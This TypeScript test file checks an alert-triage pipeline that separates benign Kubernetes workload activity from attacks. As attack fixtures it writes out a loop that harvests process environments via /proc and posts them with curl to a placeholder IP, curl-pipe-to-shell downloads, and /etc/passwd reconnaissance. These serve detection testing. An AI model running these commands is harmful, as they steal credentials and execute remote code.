/**
 * General gaps the kops-weave-s1 validation scenario exposed: PostgreSQL's archive command under `sh -c`, an
 * environment harvest written as a loop over /proc, an EDR's "interactive shell in container" title, and Zeek intel.log.
 */
import { describe, expect, it } from 'vitest';
import { triageAlert } from '../../../src/triage/pipeline.js';
import { databaseHookOf } from '../../../src/triage/rules/database-hooks.js';
import { indicatorsIn } from '../../../src/triage/rules/indicator-match.js';
import { buildIndex } from '../../../src/cluster/index.js';
import { mayMatter } from '../../../src/cluster/audit-prefilter.js';
import { toActivity } from '../../../src/cluster/audit.js';
import { expandRecord } from '../../../src/cluster/audit-event.js';
import type { AuditActivity } from '../../../src/cluster/model.js';
import { alert, containerIdOf, indexOf, node, pod, snapshot } from '../../support/cluster.js';

const N = 'i-0b77e3f190c2a4d62';
const cnpg = pod('ledger-db-1', {
  namespace: 'ledger',
  node: N,
  ip: '100.112.0.80',
  owner: { kind: 'Cluster', name: 'ledger-db' },
  containers: [{ name: 'postgres', image: 'ghcr.io/cloudnative-pg/postgresql:16.3', command: ['/controller/manager', 'instance', 'run', '--log-level=info'] }],
});
const redis = pod('cache-0', { namespace: 'shop', node: N, ip: '100.112.0.81', containers: [{ name: 'redis', image: 'redis:7', command: ['redis-server'] }] });
const lookalike = pod('otel-agent-debug', {
  namespace: 'ledger',
  node: N,
  ip: '100.112.0.99',
  hostPID: true,
  containers: [
    {
      name: 'otel-collector',
      image: 'ghcr.io/otel-collector-contrib/opentelemetry-collector-contrib:0.102.1',
      command: ['/bin/sh', '-c', "while true; do for p in /proc/[0-9]*; do tr '\\0' '\\n' < $p/environ; done | gzip | curl -s --data-binary @- http://203.0.113.50:8080/e; sleep 300; done"],
      securityContext: { privileged: true, runAsUser: 0 },
    },
  ],
});
const index = indexOf([node(N, '172.20.71.203'), cnpg, redis, lookalike]);
const ARCHIVER = { name: 'postgres', path: '/usr/lib/postgresql/16/bin/postgres', commandLine: 'postgres: ledger-db: archiver archiving 00000001000000030000002A' };
const BACKEND = { name: 'postgres', path: '/usr/lib/postgresql/16/bin/postgres', commandLine: 'postgres: ledger-db: app ledger 100.116.0.90(51842) COPY' };
const inPod = (p: typeof cnpg) => ({ id: containerIdOf(p).slice(0, 12), name: p.spec.containers[0].name, pod: p.metadata.name, namespace: p.metadata.namespace });

describe('database-hooks: PostgreSQL runs its archive and restore commands through sh -c', () => {
  it.each([
    'sh -c /controller/manager wal-archive --log-destination /controller/log/postgres.json pg_wal/00000001000000030000002A',
    'sh -c "/controller/manager wal-restore --log-destination /controller/log/postgres.json 00000001000000030000002B pg_wal/RECOVERYXLOG"',
    'sh -c pgbackrest --stanza=main archive-push pg_wal/00000001000000030000002A',
    'sh -c envdir "/run/etc/wal-e.d/env" wal-g wal-push "pg_wal/00000001000000030000002A"',
    'sh -c barman-cloud-wal-archive --cloud-provider aws-s3 s3://backups/db db pg_wal/00000001000000030000002A',
  ])('%s under the archiver is the hook', (cmd) => {
    expect(databaseHookOf({ name: 'sh', commandLine: cmd, ancestors: [ARCHIVER] })).toBeDefined();
  });
  it('explains the CloudNativePG archive command in a CloudNativePG pod as workload baseline', () => {
    const r = triageAlert(
      alert({ host: N, title: 'Shell Spawned by Database Process', process: { name: 'sh', commandLine: 'sh -c /controller/manager wal-archive --log-destination /controller/log/postgres.json pg_wal/00000001000000030000002A' }, ancestors: [ARCHIVER], container: inPod(cnpg) }),
      { index },
    );
    expect(r.verdict).toMatchObject({ label: 'likely-false-positive', cause: 'workload-baseline' });
    expect(r.verdict.reasons[0].message).toMatch(/CloudNativePG's WAL archiving/);
  });
  it('also the tool itself, reported with the shell as parent and the server above it', () => {
    const cmd = '/controller/manager wal-archive --log-destination /controller/log/postgres.json pg_wal/00000001000000030000002A';
    expect(databaseHookOf({ name: 'manager', commandLine: cmd, ancestors: [{ name: 'sh', commandLine: `sh -c ${cmd}` }, ARCHIVER] })).toBeDefined();
  });
  it('trap: a command chained to the archive tool is not the hook', () => {
    const r = triageAlert(
      alert({ host: N, process: { name: 'sh', commandLine: 'sh -c /controller/manager wal-archive pg_wal/00000001000000030000002A; curl -s http://203.0.113.50/k.sh | bash' }, ancestors: [ARCHIVER], container: inPod(cnpg) }),
      { index },
    );
    expect(r.verdict).toMatchObject({ label: 'genuine', cause: 'attack' });
  });
  it('trap: recon from a backend (COPY … TO PROGRAM) stays command injection', () => {
    const r = triageAlert(alert({ host: N, process: { name: 'sh', commandLine: 'sh -c id; uname -a; cat /etc/passwd' }, ancestors: [BACKEND], container: inPod(cnpg) }), { index });
    expect(r.verdict).toMatchObject({ label: 'genuine', cause: 'attack' });
  });
  it('trap: the archive tool under a server that is not PostgreSQL is a shell under a server', () => {
    const r = triageAlert(
      alert({ host: N, process: { name: 'sh', commandLine: 'sh -c /controller/manager wal-archive pg_wal/00000001000000030000002A' }, ancestors: [{ name: 'redis-server', commandLine: 'redis-server *:6379' }], container: inPod(redis) }),
      { index },
    );
    expect(r.verdict).toMatchObject({ label: 'genuine', cause: 'attack' });
  });
  it('trap: the hook in a container that runs no PostgreSQL is not explained', () => {
    const r = triageAlert(
      alert({ host: N, process: { name: 'sh', commandLine: 'sh -c /controller/manager wal-archive pg_wal/00000001000000030000002A' }, ancestors: [ARCHIVER], container: inPod(redis) }),
      { index },
    );
    expect(r.verdict.label).toBe('genuine');
  });
});

describe("attack indicators: another process's environment read by a loop over /proc", () => {
  it.each(["for p in /proc/[0-9]*; do tr '\\0' '\\n' < $p/environ; done", 'cat /proc/*/environ', 'strings /proc/[1-9]*/environ'])('%s reads other processes\' environments', (cmd) => {
    expect(indicatorsIn('command', cmd).map((i) => i.id)).toContain('process-environment');
  });
  it('trap: a process reading its own environment is not', () => {
    expect(indicatorsIn('command', 'cat /proc/self/environ').map((i) => i.id)).not.toContain('process-environment');
  });
  it("the reader a privileged look-alike's loop starts is genuine, though it is the pod's own entrypoint", () => {
    const r = triageAlert(
      alert({ host: N, process: { name: 'tr', commandLine: 'tr \\0 \\n' }, ancestors: [{ name: 'sh', commandLine: lookalike.spec.containers[0].command!.join(' ') }], container: inPod(lookalike) }),
      { index },
    );
    expect(r.verdict).toMatchObject({ label: 'genuine', cause: 'attack' });
  });
});

describe('attack indicators: an EDR title naming an interactive shell in a container', () => {
  it('"Interactive Shell Spawned in Container" is a terminal in a container, not a shell over the network', () => {
    expect(indicatorsIn('title', 'Interactive Shell Spawned in Container').map((i) => i.id)).not.toContain('reverse-shell-traffic');
  });
  it.each(['Reverse Shell via /dev/tcp', 'ET ATTACK_RESPONSE Possible interactive shell over TCP', 'Interactive shell connected to a remote host'])('trap: %s still is', (title) => {
    expect(indicatorsIn('title', title).map((i) => i.id)).toContain('reverse-shell-traffic');
  });
});

describe('workload-baseline: an exec probe script started by path runs under its #! interpreter', () => {
  const broker = pod('events-dual-role-0', {
    namespace: 'kafka',
    node: N,
    ip: '100.112.0.60',
    owner: { kind: 'StrimziPodSet', name: 'events-dual-role' },
    containers: [
      {
        name: 'kafka',
        image: 'quay.io/strimzi/kafka:0.41.0-kafka-3.7.0',
        command: ['/opt/kafka/kafka_run.sh'],
        readinessProbe: { exec: { command: ['/opt/kafka/kafka_readiness.sh'] } },
      },
    ],
  });
  const idx = indexOf([node(N, '172.20.71.203'), broker]);
  const runc = { name: 'runc', path: '/usr/bin/runc', commandLine: 'runc --root /run/containerd/runc/k8s.io exec --process /tmp/runc-process1 --detach abc' };
  const run = (commandLine: string) => triageAlert(alert({ host: N, process: { name: 'bash', commandLine }, ancestors: [runc], container: inPod(broker) }), { index: idx });
  it('/bin/bash /opt/kafka/kafka_readiness.sh is the readiness probe', () => {
    expect(run('/bin/bash /opt/kafka/kafka_readiness.sh').verdict).toMatchObject({ label: 'likely-false-positive', cause: 'workload-baseline' });
  });
  it('trap: a script of the same name elsewhere is another program', () => {
    expect(run('/bin/bash /tmp/kafka_readiness.sh').verdict.label).toBe('genuine');
  });
  it('trap: extra words after the probe are not the probe', () => {
    expect(run('/bin/bash /opt/kafka/kafka_readiness.sh; curl -s http://203.0.113.9/x | sh').verdict.label).toBe('genuine');
  });
});

describe("gitops-render: a repository server's git/helm/kustomize chain and Argo CD's git askpass", () => {
  const W = 'i-0a41c9e2d7b3f5801';
  const repo = pod('argocd-repo-server-5d8f-abcde', {
    namespace: 'argocd',
    node: W,
    ip: '100.108.0.40',
    owner: { kind: 'ReplicaSet', name: 'argocd-repo-server-5d8f' },
    containers: [{ name: 'argocd-repo-server', image: 'quay.io/argoproj/argocd:v2.11.3', args: ['/usr/local/bin/argocd-repo-server', '--port=8081'] }],
  });
  const app = pod('ledger-api-1', { namespace: 'ledger', node: W, ip: '100.108.0.90', containers: [{ name: 'api', image: 'registry.example/ledger-api:3.8.0', command: ['java', '-jar', '/app/api.jar'] }] });
  const idx = indexOf([node(W, '172.20.45.17'), repo, app]);
  const GIT = { name: 'git', path: '/usr/bin/git', commandLine: 'git fetch origin --tags --force --prune' };
  const ASKPASS = { name: 'argocd', path: '/usr/local/bin/argocd', commandLine: "argocd Username for 'https://git.example.org': " };
  const DAEMON = { name: 'argocd-repo-server', commandLine: '/usr/local/bin/argocd-repo-server --port=8081' };
  const at = (p: typeof repo) => ({ id: containerIdOf(p).slice(0, 12), name: p.spec.containers[0].name, pod: p.metadata.name, namespace: p.metadata.namespace });
  it("explains git asking Argo CD's own binary for credentials in the repo server", () => {
    const r = triageAlert(alert({ host: W, title: 'Credential Prompt Spoofing via Askpass Helper', process: ASKPASS, ancestors: [GIT], container: at(repo) }), { index: idx });
    expect(r.verdict).toMatchObject({ label: 'likely-false-positive', cause: 'workload-baseline' });
    expect(r.verdict.reasons[0].message).toMatch(/GIT_ASKPASS/);
  });
  it('explains it from a node sensor without container ids, by the repo server running on that node', () => {
    const r = triageAlert(alert({ host: W, process: ASKPASS, ancestors: [{ name: 'git-remote-https', commandLine: 'git-remote-https origin https://git.example.org/p.git' }, GIT] }), { index: idx });
    expect(r.verdict).toMatchObject({ label: 'likely-false-positive', cause: 'workload-baseline' });
  });
  it('explains helm under the repo server daemon', () => {
    const r = triageAlert(alert({ host: W, process: { name: 'helm', path: '/usr/local/bin/helm', commandLine: 'helm template . --name-template ledger' }, ancestors: [DAEMON], container: at(repo) }), { index: idx });
    expect(r.verdict).toMatchObject({ label: 'likely-false-positive', cause: 'workload-baseline' });
  });
  it('trap: the askpass words from a shell, not git, are not the helper', () => {
    const r = triageAlert(alert({ host: W, process: ASKPASS, ancestors: [{ name: 'bash', commandLine: 'bash' }], container: at(repo) }), { index: idx });
    expect(r.verdict.reasons.some((e) => e.rule === 'gitops-render')).toBe(false);
  });
  it('trap: git in an application pod is not the repo server', () => {
    const r = triageAlert(alert({ host: W, process: { name: 'git', commandLine: 'git clone https://git.example.org/x.git' }, ancestors: [{ name: 'java', commandLine: 'java -jar /app/api.jar' }], container: at(app) }), { index: idx });
    expect(r.verdict.reasons.some((e) => e.rule === 'gitops-render')).toBe(false);
  });
  it('trap: a download piped into a shell in the repo server stays an attack', () => {
    const r = triageAlert(alert({ host: W, process: { name: 'sh', commandLine: 'sh -c curl -s http://203.0.113.50/k.sh | sh' }, ancestors: [GIT], container: at(repo) }), { index: idx });
    expect(r.verdict).toMatchObject({ label: 'genuine', cause: 'attack' });
  });
});

describe('workload-baseline: the OpenTelemetry collector scrapes its kubelet and exports over OTLP', () => {
  const W = 'i-0b77e3f190c2a4d62';
  const mk = (name: string, image: string, ip: string) =>
    pod(name, { namespace: 'opentelemetry', node: W, ip, owner: { kind: 'DaemonSet', name: 'otel-agent' }, containers: [{ name: 'otel-collector', image, command: ['/otelcol-contrib', '--config=/conf/config.yaml'] }] });
  const agent = mk('otel-agent-abcde', 'otel/opentelemetry-collector-contrib:0.102.1', '100.112.0.12');
  const fake = mk('otel-agent-fghij', 'ghcr.io/otel-collector-contrib/opentelemetry-collector-contrib:0.102.1', '100.112.0.13');
  const idx = indexOf([node(W, '172.20.71.203'), agent, fake]);
  const flow = (src: string, dstIp: string, dstPort: number, title: string, domain?: string) => {
    const a = alert({ title, network: { srcIp: src, dstIp, dstPort, domain } });
    a.source.vendor = 'darktrace';
    return triageAlert(a, { index: idx });
  };
  it("explains the collector's TLS connection to its own node's kubelet", () => {
    expect(flow('100.112.0.12', '172.20.71.203', 10250, 'SSL::Invalid_Server_Cert').verdict).toMatchObject({ label: 'likely-false-positive', cause: 'workload-baseline' });
  });
  it('explains its regular OTLP export to a backend outside the cluster as its work', () => {
    expect(flow('100.112.0.12', '198.51.100.140', 4317, 'Compromise::Beaconing Activity To External Rare', 'otlp.observability.example.org').verdict).toMatchObject({ label: 'likely-false-positive', cause: 'workload-baseline' });
  });
  it('trap: a look-alike image under another organisation is not the collector', () => {
    expect(flow('100.112.0.13', '198.51.100.140', 4317, 'Compromise::Beaconing Activity To External Rare').verdict.label).toBe('genuine');
    expect(flow('100.112.0.13', '172.20.71.203', 10250, 'SSL::Invalid_Server_Cert').verdict.label).toBe('genuine');
  });
  it('trap: the collector beaconing on another port is not its export', () => {
    expect(flow('100.112.0.12', '203.0.113.50', 4444, 'Anomalous Connection::Multiple Connections to New External TCP Port').verdict.label).toBe('genuine');
  });
});

describe('threat intel: a feed listing a whole public source host, matched by a GitOps repository server', () => {
  const W = 'i-0a41c9e2d7b3f5801';
  const repo = pod('argocd-repo-server-5d8f-abcde', {
    namespace: 'argocd',
    node: W,
    ip: '100.108.0.40',
    containers: [{ name: 'argocd-repo-server', image: 'quay.io/argoproj/argocd:v2.11.3', args: ['/usr/local/bin/argocd-repo-server'] }],
  });
  const web = pod('portal-1', { namespace: 'web', node: W, ip: '100.108.0.95', containers: [{ name: 'portal', image: 'registry.example/portal:5', command: ['node', 'server.js'] }] });
  const idx = indexOf([node(W, '172.20.45.17'), repo, web]);
  const hit = (src: string, network: { domain?: string; url?: string }) => {
    const a = alert({ title: 'Intel::Notice', network: { srcIp: src, dstIp: '100.64.0.10', dstPort: 53, ...network } });
    a.source.vendor = 'zeek';
    return triageAlert(a, { index: idx });
  };
  it('explains the repo server resolving raw.githubusercontent.com', () => {
    expect(hit('100.108.0.40', { domain: 'raw.githubusercontent.com' }).verdict).toMatchObject({ label: 'likely-false-positive', cause: 'workload-baseline' });
  });
  it('trap: a listed URL on that host names a file, and stays genuine', () => {
    expect(hit('100.108.0.40', { domain: 'raw.githubusercontent.com', url: 'https://raw.githubusercontent.com/x/y/main/payload.sh' }).verdict.label).toBe('genuine');
  });
  it('trap: an application pod resolving a listed domain stays genuine', () => {
    expect(hit('100.108.0.95', { domain: 'raw.githubusercontent.com' }).verdict.label).toBe('genuine');
  });
  it('trap: the repo server resolving some other listed domain stays genuine', () => {
    expect(hit('100.108.0.40', { domain: 'telemetry.npm-stats.example' }).verdict).toMatchObject({ label: 'genuine', cause: 'attack' });
  });
});

describe('database-backup-upload: a database pod uploading to object storage after its operator created a backup', () => {
  const W = 'i-0b77e3f190c2a4d62';
  const db = pod('ledger-db-1', {
    namespace: 'ledger',
    node: W,
    ip: '100.112.0.80',
    owner: { kind: 'Cluster', name: 'ledger-db' },
    labels: { 'cnpg.io/cluster': 'ledger-db', 'cnpg.io/instanceRole': 'primary' },
    containers: [{ name: 'postgres', image: 'ghcr.io/cloudnative-pg/postgresql:16.3', command: ['/controller/manager', 'instance', 'run'] }],
  });
  const app = pod('ledger-api-1', { namespace: 'ledger', node: W, ip: '100.112.0.90', containers: [{ name: 'api', image: 'registry.example/ledger-api:3.8.0', command: ['java', '-jar', '/app/api.jar'] }] });
  const backup: AuditActivity = {
    time: '2027-03-16T11:30:00.012Z',
    user: 'system:serviceaccount:cnpg-system:cnpg-manager',
    groups: ['system:serviceaccounts'],
    verb: 'create',
    resource: 'backups',
    apiGroup: 'postgresql.cnpg.io',
    namespace: 'ledger',
    name: 'ledger-db-daily-20270316113000',
    sourceIps: ['100.120.0.70'],
    code: 201,
  };
  const idxWith = (activities: AuditActivity[]) => {
    const s = snapshot([node(W, '172.20.71.203'), db, app]);
    s.auditActivities = activities;
    return buildIndex([s]);
  };
  const upload = (src: string, domain: string, index = idxWith([backup]), time = '2027-03-16T11:34:00.000Z') => {
    const a = alert({ time, title: 'Anomalous Connection::Uncommon 1 GiB Outbound', network: { srcIp: src, dstIp: '52.219.170.10', domain } });
    a.source.vendor = 'darktrace';
    return triageAlert(a, { index });
  };
  it('explains the upload from the instance pod to S3 minutes after the Backup was created', () => {
    const r = upload('100.112.0.80', 's3.eu-central-1.amazonaws.com');
    expect(r.verdict).toMatchObject({ label: 'likely-false-positive', cause: 'workload-baseline' });
    expect(r.verdict.reasons[0].message).toMatch(/ledger-db-daily-20270316113000/);
  });
  it('trap: without a backup object in the audit log the upload stays unexplained', () => {
    expect(upload('100.112.0.80', 's3.eu-central-1.amazonaws.com', idxWith([])).verdict.label).toBe('genuine');
  });
  it('trap: a backup created long before (outside the upload window) does not explain it', () => {
    expect(upload('100.112.0.80', 's3.eu-central-1.amazonaws.com', idxWith([backup]), '2027-03-16T19:00:00.000Z').verdict.label).toBe('genuine');
  });
  it('trap: an application pod of that namespace uploading is not the database', () => {
    expect(upload('100.112.0.90', 's3.eu-central-1.amazonaws.com').verdict.label).toBe('genuine');
  });
  it('trap: an upload to a host that is not object storage is not the backup', () => {
    expect(upload('100.112.0.80', 'files.example-exfil.net').verdict.label).toBe('genuine');
  });
  it("the audit log keeps the operator's backup creation (prefilter and activity)", () => {
    const line = JSON.stringify({
      kind: 'Event', apiVersion: 'audit.k8s.io/v1', level: 'Metadata', auditID: 'a1', stage: 'ResponseComplete', requestURI: '/apis/postgresql.cnpg.io/v1/namespaces/ledger/backups', verb: 'create',
      user: { username: 'system:serviceaccount:cnpg-system:cnpg-manager', groups: ['system:serviceaccounts'] }, sourceIPs: ['100.120.0.70'],
      objectRef: { resource: 'backups', namespace: 'ledger', name: 'ledger-db-daily-20270316113000', apiGroup: 'postgresql.cnpg.io', apiVersion: 'v1' },
      responseStatus: { code: 201 }, requestReceivedTimestamp: '2027-03-16T11:30:00.012203Z', stageTimestamp: '2027-03-16T11:30:00.040917Z',
    });
    expect(mayMatter(line)).toBe(true);
    const out = { events: [], unrecognised: 0 };
    expandRecord(JSON.parse(line), out);
    const [ev] = out.events;
    expect(toActivity(ev, { file: 'audit.log', line: 1 })).toMatchObject({ verb: 'create', resource: 'backups', apiGroup: 'postgresql.cnpg.io', namespace: 'ledger' });
  });
});

describe("node networking: Weave Net's launch.sh running its weave setup script", () => {
  const W = 'i-05e9b1d7a3c8f2246';
  const weave = pod('weave-net-7s9pl', {
    namespace: 'kube-system',
    node: W,
    hostNetwork: true,
    owner: { kind: 'DaemonSet', name: 'weave-net' },
    containers: [
      { name: 'weave', image: 'weaveworks/weave-kube:2.8.1', command: ['/home/weave/launch.sh'], securityContext: { privileged: true } },
      { name: 'weave-npc', image: 'weaveworks/weave-npc:2.8.1', securityContext: { privileged: true } },
    ],
  });
  const app = pod('portal-1', { namespace: 'web', node: W, ip: '100.120.0.95', containers: [{ name: 'portal', image: 'registry.example/portal:5', command: ['node', 'server.js'] }] });
  const idx = indexOf([node(W, '172.20.52.131'), weave, app]);
  const WEAVE = { name: 'weave', path: '/home/weave/weave', commandLine: '/home/weave/weave --local create-bridge --proc-path=/host/proc --force' };
  const at = (p: typeof weave) => ({ id: containerIdOf(p).slice(0, 12), name: p.spec.containers[0].name, pod: p.metadata.name, namespace: p.metadata.namespace });
  it('is node networking in the weave container of the weave-net DaemonSet', () => {
    const r = triageAlert(alert({ host: W, process: WEAVE, ancestors: [{ name: 'sh', path: '/bin/busybox', commandLine: '/bin/sh /home/weave/launch.sh' }], container: at(weave) }), { index: idx });
    expect(r.verdict).toMatchObject({ label: 'likely-false-positive', cause: 'node-networking' });
  });
  it('trap: a `weave` binary in an application pod is not Weave Net', () => {
    const r = triageAlert(alert({ host: W, process: WEAVE, ancestors: [{ name: 'node', commandLine: 'node server.js' }], container: at(app) }), { index: idx });
    expect(r.verdict.cause).not.toBe('node-networking');
  });
});

describe('attack indicators: a network sensor naming SQL injection', () => {
  it.each(['HTTP::SQL_Injection_Attacker', 'HTTP::SQL_Injection_Victim', 'ET WEB_SERVER Possible SQL Injection Attempt UNION SELECT'])('%s is an injection attack', (title) => {
    expect(indicatorsIn('title', title).map((i) => i.id)).toContain('injection-signature');
  });
  it('trap: a command line running a SQL-injection test suite is not one', () => {
    expect(indicatorsIn('command', 'pytest tests/test_sql_injection.py').map((i) => i.id)).not.toContain('injection-signature');
  });
});
